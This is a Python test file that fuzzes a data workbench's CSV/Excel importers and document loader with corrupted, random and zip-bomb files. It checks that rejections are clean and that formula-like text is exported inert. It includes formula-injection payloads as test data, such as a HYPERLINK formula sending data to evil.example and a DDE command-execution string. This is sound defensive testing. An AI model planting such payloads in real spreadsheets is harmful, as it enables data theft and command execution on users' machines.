"""Upload fuzzing: broken, random and odd files against every importer and the document loader.

The property everywhere: only WorkbenchError (with a message naming the file) reaches the
caller, and a rejected file leaves every table's row count as it was. Odd but valid files
(other encodings, NUL bytes, formula-like text) are read correctly, and formula-like text
goes back out to Excel and CSV as inert text.
"""

from __future__ import annotations

import csv
import io
import random

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from services.browse import export_table_csv
from services.documents import IngestLimits, ingest_file
from services.imports import KINDS, ImportRejected, detect_mapping, run_import, source_from_bytes
from services.screening import parse_spec, run_screen
from services.targeting_export import build_screen_workbook
from hostile import (SEED, VALID_COMPANIES_XLSX, corrupt, docx_bytes, malformed_tables, pdf_bytes, rewrite_zip,
    table_counts, utf16_csv, xlsx_bytes, zip_bomb_xlsx)
from workbench.errors import WorkbenchError
from workbench.excel import FORMULA_STARTS, BankerWorkbook, Column
from workbench.models import Company, Document

FUZZ = settings(max_examples=40, derandomize=True, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])  # fmt: skip
LIMITS = IngestLimits(max_bytes=5_000_000, max_pages=20)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "=1+1"]  # fmt: skip


def _import(store, name: str, data: bytes, kind: str, **kw):
    return run_import(source_from_bytes(name, data), kind, session_factory=store.session_factory, user="fuzzer", **kw)


def _rejected_cleanly(store, call, name: str) -> WorkbenchError:
    before = table_counts(store.session_factory)
    with pytest.raises(WorkbenchError) as caught:
        call()
    message = str(caught.value)
    assert name in message and len(message) < 4000, message[:300]
    assert table_counts(store.session_factory) == before, f"{name}: a rejected file changed the store"
    return caught.value


# --- importers ------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_every_importer_rejects_each_malformed_file_with_a_clear_error_and_writes_nothing(seeded, kind):
    store, _ = seeded
    for name, data in malformed_tables().items():
        _rejected_cleanly(store, lambda: _import(store, name, data, kind), name)
        try:  # what the Data page calls first: it only reads the header, so it may pass
            detect_mapping(source_from_bytes(name, data), kind)
        except WorkbenchError as exc:
            assert name in str(exc)


def _mutated(seed: int, data: bytes) -> bytes:
    rng = random.Random(seed)
    out = corrupt(data, rng, flips=rng.randint(1, 40))
    return out[: rng.randrange(1, len(out) + 1)] if rng.random() < 0.3 else out


_CSV = b"Ticker,Company Name,Sector,Employees,Market Cap ($m)\nFZ1,Fuzz One,Energy,12,1500\nFZ2,Fuzz Two,Utilities,3,20\n"
_ANY_FILE = st.one_of(
    st.binary(min_size=1, max_size=3000),
    st.integers(0, 2**32).map(lambda seed: _mutated(seed, VALID_COMPANIES_XLSX)),
    st.integers(0, 2**32).map(lambda seed: _mutated(seed, _CSV)),
)


@FUZZ
@given(kind=st.sampled_from(KINDS), suffix=st.sampled_from([".csv", ".xlsx"]), data=_ANY_FILE)
def test_random_and_corrupted_files_never_crash_an_importer_or_write_part_of_a_file(seeded, kind, suffix, data):
    store, _ = seeded
    before = table_counts(store.session_factory)
    try:
        result = _import(store, f"fuzz{suffix}", data, kind)
    except WorkbenchError as exc:
        assert str(exc).strip()
        assert table_counts(store.session_factory) == before
    else:  # a mutation can leave a valid file: then every valid row is in, with its audit entry
        after = table_counts(store.session_factory)
        assert after["audit_log"] == before["audit_log"] + 1 and result.imported > 0


def test_workbook_that_inflates_to_tens_of_megabytes_is_read_within_the_limits(seeded):
    store, _ = seeded
    data = zip_bomb_xlsx()
    assert len(data) < 1_000_000  # small on disk, ~40 MB once inflated
    result = _import(store, "inflates.xlsx", data, "companies")
    assert result.inserted == 30


def test_upload_limit_applies_to_the_file_as_sent(seeded, monkeypatch):
    from workbench.config import get_settings

    store, _ = seeded
    monkeypatch.setenv("WORKBENCH_MAX_UPLOAD_MB", "1")
    get_settings.cache_clear()
    data = b"Ticker,Company Name\n" + b"FZ1,Fuzz\n" * 150_000  # ~1.35 MB
    _rejected_cleanly(store, lambda: _import(store, "big.csv", data, "companies"), "big.csv")


@pytest.mark.parametrize(("encoding", "data"), [
    ("utf-16 LE with BOM", utf16_csv("Ticker,Company Name\nFZE,Société Générale ☂\n")),
    ("utf-16 BE with BOM", utf16_csv("Ticker,Company Name\nFZE,Société Générale ☂\n", big_endian=True)),
    ("utf-32 with BOM", "Ticker,Company Name\nFZE,Société Générale ☂\n".encode("utf-32")),
    ("utf-8 with BOM", "Ticker,Company Name\nFZE,Société Générale ☂\n".encode("utf-8-sig")),
])  # fmt: skip
def test_unicode_files_with_a_byte_order_mark_are_decoded_not_mangled(store, encoding, data):
    result = _import(store, "unicode.csv", data, "companies")
    assert result.inserted == 1 and "Ticker" in result.preview.mapping.values()
    with store.session_factory() as s:
        assert s.scalars(select(Company.name).where(Company.key == "FZE")).one() == "Société Générale ☂"


@pytest.mark.parametrize(("encoding", "name"), [("latin-1", "Société Générale"), ("cp1252", "Crédit “Agricole” €")])
def test_western_code_page_files_are_decoded(store, encoding, name):
    result = _import(store, "western.csv", f"Ticker,Company Name\nFZW,{name}\n".encode(encoding), "companies")
    assert result.preview.encoding == "cp1252" and result.inserted == 1
    with store.session_factory() as s:
        assert s.scalars(select(Company.name).where(Company.key == "FZW")).one() == name


def test_nul_bytes_inside_cells_are_removed_with_a_note(store):
    result = _import(store, "nul.csv", b"Ticker,Company Name\nFZN,Fuzz\x00 Nul\x00 Inc\n", "companies")
    assert any("NUL" in note for note in result.preview.notes)
    with store.session_factory() as s:
        assert s.scalars(select(Company.name).where(Company.key == "FZN")).one() == "Fuzz Nul Inc"


@pytest.mark.parametrize(("header", "cell", "column"), [
    ("Company Name", "A" * 2_000_000, "Company Name"),  # a 2 MB cell
    ("Employees", "1e300", "Employees"),  # beyond any integer column
    ("Employees", "99999999999", "Employees"),  # beyond a 32-bit integer column
    ("Market Cap ($m)", "1e400", "Market Cap ($m)"),  # infinite
    ("Market Cap ($m)", "nan", None),  # a placeholder: blank, not an error
])  # fmt: skip
def test_oversized_cells_are_rejected_with_row_and_column_on_every_backend(store, header, cell, column):
    data = (f"Ticker,{header}\nFZL,{cell}\n" if header == "Company Name"
            else f"Ticker,Company Name,{header}\nFZL,Long Co,{cell}\n").encode()  # fmt: skip
    if column is None:
        assert _import(store, "long.csv", data, "companies").inserted == 1
        return
    exc = _rejected_cleanly(store, lambda: _import(store, "long.csv", data, "companies"), "long.csv")
    assert isinstance(exc, ImportRejected) and f"row 2, column {column!r}" in str(exc)


def test_extremely_long_lines_and_many_cells_are_rejected_by_row(store):
    line = "FZ1," + ",".join(["x"] * 100_000)
    exc = _rejected_cleanly(store, lambda: _import(store, "line.csv", f"Ticker,Company Name\n{line}\n".encode(),
                                                   "companies"), "line.csv")  # fmt: skip
    assert "row 2" in str(exc) and "cells but the header has 2 columns" in str(exc)


# --- formula-like text: stored as text, exported inert ---------------------------------------------


def _no_formulas(workbook_bytes: bytes) -> list[str]:
    """Every string cell of a workbook; fails if any cell would run as a formula."""
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_formula_like_cells_are_imported_as_text_and_exported_to_excel_and_csv_inert(store):
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["Ticker", "Company Name", "Sector", "Market Cap ($m)"],
                                  *([f"FX{i}", name, name, 1000 + i] for i, name in enumerate(FORMULAS))])  # fmt: skip
    result = _import(store, "formulas.csv", buffer.getvalue().encode(), "companies")
    assert result.inserted == len(FORMULAS)
    with store.session_factory() as s:
        stored = set(s.scalars(select(Company.name).where(Company.key.like("FX%"))))
    assert stored == {f.strip() for f in FORMULAS}  # kept as the user's text, never evaluated

    csv_text = export_table_csv(store.session_factory, "companies", user="fuzzer").decode("utf-8")
    for name in stored:
        assert f"'{name}" in csv_text or f"\"'{name}" in csv_text.replace('""', '"')

    spec = parse_spec({"name": "=cmd|' /C calc'!A0", "top_n": 50, "filters": {"combine": "and", "conditions": [
                       {"field": "market_cap_usd_m", "op": ">", "value": 0}]}})  # fmt: skip
    screen = run_screen(spec, session_factory=store.session_factory, as_of=None, user="fuzzer")
    texts = _no_formulas(build_screen_workbook(screen, run_by="=evil()"))
    for name in stored:
        assert "'" + name in texts and name not in texts
    assert "'=evil()" in texts


def test_banker_workbook_never_writes_a_formula_from_any_text_it_is_given():
    import pandas as pd

    frame = pd.DataFrame({"t": FORMULAS + ["\r=1", "plain"]})
    book = BankerWorkbook()
    book.add_table("=sheet", frame, [Column("t", "=header")], cover=[("=label", "=value")], heading="=heading")
    book.add_key_values("+prov", [("=k", ["=a", "-b"]), ("@k", {"=x": "=y"})], heading="-h")
    texts = _no_formulas(book.to_bytes())
    assert all(not t.startswith(FORMULA_STARTS) for t in texts)


def test_formula_cells_in_an_uploaded_workbook_are_not_imported_as_formulas(store):
    rows = [["Ticker", "Company Name"], ["FF1", "=HYPERLINK(\"http://evil.example\")"], ["FF2", "Plain Co"]]
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows)))
    assert wb.active["B2"].data_type == "f"  # the uploaded file really holds a formula
    _import(store, "f.xlsx", xlsx_bytes(rows), "companies", skip_invalid=True)
    with store.session_factory() as s:
        names = set(s.scalars(select(Company.name).where(Company.key.in_(["FF1", "FF2"]))))
    assert not any(n and n.startswith("=") for n in names)


# --- the document loader --------------------------------------------------------------------------


def _ingest(store, data: bytes, name: str):
    return ingest_file(data, name, session_factory=store.session_factory, limits=LIMITS, user="fuzzer")


def _malformed_documents() -> dict[str, bytes]:
    rng = random.Random(SEED)
    pdf = pdf_bytes("Revenue rose 5 percent to 1.2 billion dollars in the third quarter")
    word = docx_bytes("Revenue rose 5% to $1.2 billion in the third quarter.")
    return {
        "random.pdf": rng.randbytes(3000), "random.docx": rng.randbytes(3000), "random.txt": rng.randbytes(3000),
        "random.html": rng.randbytes(3000), "noext": rng.randbytes(500),
        "cut.pdf": pdf[: len(pdf) // 2], "cut.docx": word[: len(word) // 2],
        "flipped.docx": word[:600] + rng.randbytes(400) + word[1000:],
        "no_body.docx": rewrite_zip(word, lambda n, b: None if n == "word/document.xml" else b),
        "pdf_named.docx": pdf, "docx_named.pdf": word, "xlsx_named.txt": VALID_COMPANIES_XLSX,
        "empty.txt": b"", "empty.pdf": b"", "whitespace.txt": b" \n\t\r\n ", "punctuation.md": b"# -- * --\n",
        "script_only.html": b"<html><script>alert('x')</script><style>p{}</style></html>",
        "program.exe": b"MZ\x90\x00", "archive.zip": b"PK\x05\x06" + b"\x00" * 18, "sheet.xlsx": VALID_COMPANIES_XLSX,
        "utf16_bad.txt": b"\xff\xfe" + rng.randbytes(301),  # odd length: not UTF-16
    }  # fmt: skip


def test_document_loader_rejects_each_malformed_file_with_a_clear_error_and_stores_nothing(seeded):
    store, _ = seeded
    for name, data in _malformed_documents().items():
        _rejected_cleanly(store, lambda: _ingest(store, data, name), name)


_DOC_SEEDS = {".pdf": pdf_bytes("Revenue rose 5 percent to 1.2 billion dollars in the third quarter"),
              ".docx": docx_bytes("Revenue rose 5% to $1.2 billion in the third quarter."),
              ".html": b"<html><title>Q3</title><p>Revenue rose 5% to $1.2 billion.</p></html>",
              ".txt": "Revenue rose 5% to $1.2 billion. Guidance is unchanged.".encode("utf-16")}  # fmt: skip


@FUZZ
@given(suffix=st.sampled_from(sorted(_DOC_SEEDS)), seed=st.integers(0, 2**32), raw=st.booleans())
def test_random_and_corrupted_documents_never_crash_the_loader_or_store_part_of_one(seeded, suffix, seed, raw):
    store, _ = seeded
    data = random.Random(seed).randbytes(2000) if raw else _mutated(seed, _DOC_SEEDS[suffix])
    before = table_counts(store.session_factory)
    try:
        info = _ingest(store, data, f"fuzz{suffix}")
    except WorkbenchError as exc:
        assert str(exc).strip()
        assert table_counts(store.session_factory) == before
    else:
        with store.session_factory() as s:
            assert s.get(Document, info.id) is not None


@pytest.mark.parametrize(("name", "data", "file_type"), [
    ("report.txt", pdf_bytes("Revenue rose 5 percent to 1.2 billion dollars in the quarter"), "pdf"),
    ("minutes.txt", docx_bytes("Revenue rose 5% to $1.2 billion in the quarter."), "docx"),
    ("unicode.txt", "Revenue rose 5% to $1.2 billion in the quarter.".encode("utf-16"), "txt"),
    ("unicode.html", "<p>Revenue rose 5% to $1.2 billion in the quarter.</p>".encode("utf-16"), "html"),
])  # fmt: skip
def test_document_content_decides_how_it_is_read_not_a_wrong_extension(name, data, file_type):
    from workbench.loaders import load_bytes

    loaded = load_bytes(data, name, max_bytes=LIMITS.max_bytes, max_pages=LIMITS.max_pages)
    assert loaded.file_type == file_type and "Revenue rose 5" in loaded.text
